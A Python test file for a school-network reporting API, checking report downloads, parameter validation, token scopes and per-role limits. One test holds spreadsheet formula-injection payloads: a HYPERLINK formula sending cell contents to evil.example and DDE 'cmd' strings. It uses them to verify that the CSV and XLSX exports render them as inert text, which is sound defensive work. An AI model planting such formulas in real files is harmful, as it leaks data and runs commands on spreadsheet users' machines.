"""``/api/v1/readiness`` and ``/api/v1/procurement`` on the hand-made province: JSON and
downloads, wrong parameters (422 naming them), and the token's scope (403 beyond it)."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from fastapi.testclient import TestClient

from schoolnet_collector.api.auth import get_clock
from schoolnet_collector.app import create_app
from schoolnet_collector.core.config import load_settings
from schoolnet_collector.registry.equipment import import_equipment
from schoolnet_collector.registry.schools import import_schools
from schoolnet_collector.runtime import Runtime
from tests.support.collector import bearer, make_token
from tests.support.planning import NOW, build_province
from tests.support.web import post_form


@pytest.fixture()
def runtime(tmp_path, influxdb, influx_db_name):
    _, _, engine = build_province(tmp_path, influxdb, influx_db_name)
    engine.dispose()
    rt = Runtime.open(
        load_settings(
            None,
            influx={"url": influxdb.url, "database": influx_db_name},
            registry={"url": f"sqlite:///{tmp_path}/registry.sqlite3"},
        )
    )
    yield rt
    rt.close()


@pytest.fixture()
def client(runtime):
    app = create_app(runtime)
    app.dependency_overrides[get_clock] = lambda: lambda: NOW  # the period ends at NOW
    with TestClient(app) as c:
        yield c


def get(client, runtime, path, token_scope="province", role="viewer", **params):
    token = make_token(runtime, scope=token_scope, role=role)
    return client.get(path, params=params, headers=bearer(token))


def test_readiness_json_with_targets_and_gaps(client, runtime):
    r = get(client, runtime, "/api/v1/readiness", period="2d")
    assert r.status_code == 200, r.text
    total = r.json()["total"]
    internet = next(i for i in total["indicators"] if i["key"] == "internet")
    assert (internet["value"], internet["gap"], internet["target"]["value"]) == (75.0, 25.0, 100)
    assert "Thái Nguyên" in internet["target"]["source"]


def test_procurement_json_and_downloads(client, runtime):
    r = get(client, runtime, "/api/v1/procurement", period="2d", as_of=2018, lang="en")
    assert r.status_code == 200, r.text
    assert r.json()["total"]["labs_replace"] == 1
    assert any(
        "past its 8-year life" in x["text"] for d in r.json()["devices"] for x in d["reasons"]
    )
    r = get(client, runtime, "/api/v1/procurement", period="2d", as_of=2018, format="csv")
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    assert (
        r.headers["content-disposition"]
        == 'attachment; filename="procurement-province-20260310.csv"'
    )
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert rows[0][:3] == ["Nhóm", "Mã", "Tên"] and rows[1][1] == "province"
    r = get(client, runtime, "/api/v1/readiness", period="2d", format="xlsx")
    assert r.headers["content-disposition"].endswith('readiness-province-20260310.xlsx"')
    wb = openpyxl.load_workbook(io.BytesIO(r.content))
    assert wb.sheetnames[0] == "Tổng hợp" and "THPT" in wb.sheetnames


@pytest.mark.parametrize(
    "params, message",
    [
        ({"period": "30"}, "period '30': expected a number and a unit"),
        ({"scope": "county:x"}, "expected province, district:<id> or school:<id>"),
        ({"scope": "district:nowhere"}, "no district 'nowhere' in the registry"),
        ({"format": "pdf"}, "format"),
        ({"lang": "fr"}, "lang"),
        ({"as_of": "1999"}, "as_of"),
    ],
)
def test_bad_parameters_are_422_naming_them(client, runtime, params, message):
    for path in ("/api/v1/readiness", "/api/v1/procurement"):
        r = get(client, runtime, path, **params)
        assert r.status_code == 422, (path, r.text)
        assert message in r.text


def test_a_district_token_sees_its_district_only(client, runtime):
    token = make_token(runtime, scope="district:d-two")
    default = client.get("/api/v1/readiness", params={"period": "2d"}, headers=bearer(token))
    assert default.status_code == 200 and default.json()["scope"] == "district:d-two"  # its own
    mine = client.get(
        "/api/v1/readiness",
        params={"scope": "district:d-two", "period": "2d"},
        headers=bearer(token),
    )
    assert mine.status_code == 200, mine.text
    assert {s["id"] for s in mine.json()["schools"]} == {"p-none", "p-thpt"}
    school = client.get(
        "/api/v1/procurement",
        params={"scope": "school:p-thpt", "period": "2d"},
        headers=bearer(token),
    )
    assert school.status_code == 200
    for scope in ("district:d-one", "school:p-fibre", "province"):
        r = client.get("/api/v1/procurement", params={"scope": scope}, headers=bearer(token))
        assert r.status_code == 403 and "outside the token's scope" in r.text, scope


def test_no_token_is_401(client):
    assert client.get("/api/v1/readiness").status_code == 401


def test_influxdb_down_is_503_naming_it(tmp_path, influxdb, influx_db_name):
    from devenv.services import free_port

    _, _, engine = build_province(tmp_path, influxdb, influx_db_name)
    engine.dispose()
    rt = Runtime.open(
        load_settings(
            None,
            influx={
                "url": f"http://127.0.0.1:{free_port()}",
                "database": influx_db_name,
                "timeout": 1,
            },
            registry={"url": f"sqlite:///{tmp_path}/registry.sqlite3"},
        )
    )
    try:
        app = create_app(rt)
        app.dependency_overrides[get_clock] = lambda: lambda: NOW
        with TestClient(app) as c:
            r = c.get("/api/v1/readiness", headers=bearer(make_token(rt)))
        assert r.status_code == 503 and "InfluxDB unavailable" in r.text
    finally:
        rt.close()


HOSTILE = {  # what a school file or an equipment file may hold, and a spreadsheet would run
    "name": '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "district_name": "+cmd|' /C calc'!A0",
    "room": "@SUM(1+1)*cmd|' /C calc'!A0",
    "other": "-2+3",
}


def hostile_registry(tmp_path, runtime) -> None:
    """p-fibre's school file and equipment rows rewritten with formula-like text, imported the
    way the Sở's files are."""
    schools, equipment = tmp_path / "hostile-schools.csv", tmp_path / "hostile-equipment.csv"
    with schools.open("w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows(
            [
                ["id", "name", "province", "district", "level", "district_name"],
                ["p-fibre", HOSTILE["name"], "lao-cai", "d-one", "thcs", HOSTILE["district_name"]],
                [
                    "p-3g",
                    HOSTILE["other"],
                    "lao-cai",
                    "d-one",
                    "tieu_hoc",
                    HOSTILE["district_name"],
                ],
            ]
        )
    with equipment.open("w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows(
            [
                ["school", "device", "kind", "purchase_year", "room"],
                ["p-fibre", "admin-pc01", "admin_pc", "2016", HOSTILE["room"]],
                ["p-fibre", "admin-pc03", "admin_pc", "2012", "-1+1"],
            ]
        )
    with runtime.sessions() as session:
        assert not import_schools(session, schools).errors
        assert not import_equipment(session, equipment).errors


def test_formula_like_text_reaches_the_spreadsheets_as_text(client, runtime, tmp_path):
    """OWASP's rule on the downloads: a cell starting with = + - @ tab or CR is text (CSV: an
    apostrophe first; XLSX: a string cell with the quote prefix); numbers stay numbers."""
    hostile_registry(tmp_path, runtime)
    r = get(
        client,
        runtime,
        "/api/v1/readiness",
        period="2d",
        format="csv",
        lang="en",
        scope="district:d-one",
    )
    assert r.status_code == 200, r.text
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert "'" + HOSTILE["district_name"] in cells, rows[:3]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    values = [row[rows[0].index("Value")] for row in rows[1:]]
    assert all(v == "" or float(v) >= 0 for v in values)  # figures as figures, no apostrophe

    for path in ("/api/v1/readiness", "/api/v1/procurement"):
        r = get(client, runtime, path, period="2d", format="xlsx", as_of=2026)
        assert r.status_code == 200, r.text
        book = openpyxl.load_workbook(io.BytesIO(r.content))
        seen = set()
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if isinstance(cell.value, str) and cell.value[:1] in "=+-@\t\r":
                        assert cell.data_type == "s" and cell.quotePrefix, (path, cell.value)
                        seen.add(cell.value)
                    if isinstance(cell.value, int | float):
                        assert cell.data_type == "n"
        assert {HOSTILE["name"], HOSTILE["other"], HOSTILE["district_name"]} <= seen, (path, seen)
    assert {HOSTILE["room"], "-1+1"} <= seen  # the devices to replace, with their rooms


# --- how much one request may ask of InfluxDB, by role --------------------------------------
@pytest.fixture()
def limited(tmp_path, influxdb, influx_db_name):
    """The hand-made province (4 schools) with a viewer allowed 10 school-days at most."""
    _, _, engine = build_province(tmp_path, influxdb, influx_db_name)
    engine.dispose()
    rt = Runtime.open(
        load_settings(
            None,
            influx={"url": influxdb.url, "database": influx_db_name},
            registry={"url": f"sqlite:///{tmp_path}/registry.sqlite3"},
            api={"report_limits": {"viewer": {"period_days": 31, "school_days": 10}}},
        )
    )
    app = create_app(rt)
    app.dependency_overrides[get_clock] = lambda: lambda: NOW
    with TestClient(app) as c:
        yield c, rt
    rt.close()


@pytest.mark.parametrize("path", ["/api/v1/readiness", "/api/v1/procurement"])
def test_a_viewer_asking_for_400_days_is_told_the_limit(client, runtime, path):
    r = get(client, runtime, path, period="400d")
    assert r.status_code == 400, r.text
    assert "400 days is longer than a viewer token may ask for (at most 31d)" in r.json()["detail"]
    assert get(client, runtime, path, period="31d").status_code == 200
    assert get(client, runtime, path, period="92d", role="operator").status_code == 200
    assert get(client, runtime, path, period="93d", role="operator").status_code == 400
    assert get(client, runtime, path, period="400d", role="admin").status_code == 200


def test_a_viewer_asking_for_too_many_school_days_is_told_to_narrow_it(limited):
    client, rt = limited
    r = get(client, rt, "/api/v1/readiness", period="3d", format="xlsx")  # 4 schools x 3 days
    assert r.status_code == 400, r.text
    detail = r.json()["detail"]
    assert "12 school-days" in detail and "at most 10" in detail and "district" in detail
    assert get(client, rt, "/api/v1/readiness", period="2d").status_code == 200  # 8
    narrower = get(client, rt, "/api/v1/procurement", period="3d", scope="district:d-one")
    assert narrower.status_code == 200, narrower.text  # 2 schools x 3 days
    assert get(client, rt, "/api/v1/procurement", period="3d", role="operator").status_code == 200


def test_the_plan_page_says_the_limit_in_the_pages_language(limited):
    """The page reads the same 30 days as the API's default: 120 school-days here."""
    client, rt = limited
    client.cookies.clear()
    signed_in = post_form(
        client, "/login", {"token": make_token(rt), "next": "/plan"}, follow_redirects=False
    )
    assert signed_in.status_code == 303, signed_in.text
    page = client.get("/plan")
    assert page.status_code == 400 and "Báo cáo này gồm nhiều trường" in page.text, page.text
    assert "more schools and days" in client.get("/plan?lang=en").text
    client.cookies.clear()
